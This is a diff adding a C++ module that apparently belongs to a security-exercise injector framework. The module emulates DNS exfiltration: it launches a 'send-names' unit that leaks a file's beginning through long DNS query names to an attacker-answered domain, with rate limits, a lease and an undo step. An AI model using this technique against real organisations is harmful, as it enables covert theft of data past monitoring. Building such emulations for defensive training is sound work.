@@ -1,0 +1,34 @@
+// dns-exfil: the beginning of a file goes out in long names, asked of the organisation's name
+// server by a workstation's user; the attacker's host answers for the domain and puts the file
+// together. It needs the dns service, which forwards the domain.
+//
+// It leaves question after question with a long name in the name server's log. At most 64 KiB and
+// ten questions a second. Its unit has begun when the file was read; that it arrived is telemetry.
+// It ends by itself, with the lease, or when it is taken back.
+#include "injector/actions/running_unit.h"
+#include "injector/key.h"
+#include "injector/utf8.h"
+
+namespace enshu::inject {
+
+nlohmann::json perform(const ActContext &context, const dsl::DnsExfil &exfil) {
+    const dsl::Host &server = host_offering(context, dsl::ServiceKind::Dns, "dns");
+    const std::string id = upload_path(context.step.id).substr(std::string("/drop/").size());
+    RunningUnit unit{exfil.on,
+                     {"send-names", "--name-server",
+                      address_for(context, server.id, exfil.on) + ":53", "--domain", exfil.domain,
+                      "--id", id, "--file", exfil.what},
+                     key_of(context.seed, context.team, context.step.id) + "\n"};
+    unit.user = user_of(context, exfil.on);
+    const nlohmann::json report = start_unit(context, unit);
+    return {{"domain", exfil.domain},
+            {"file", exfil.what},
+            {"bytes", report.value("bytes", std::int64_t{0})},
+            {"sha256", clean_utf8(report.value("sha256", std::string()), 64)}};
+}
+
+void undo(const ActContext &context, const dsl::DnsExfil &exfil) {
+    stop_unit(context, exfil.on);
+}
+
+} // namespace enshu::inject
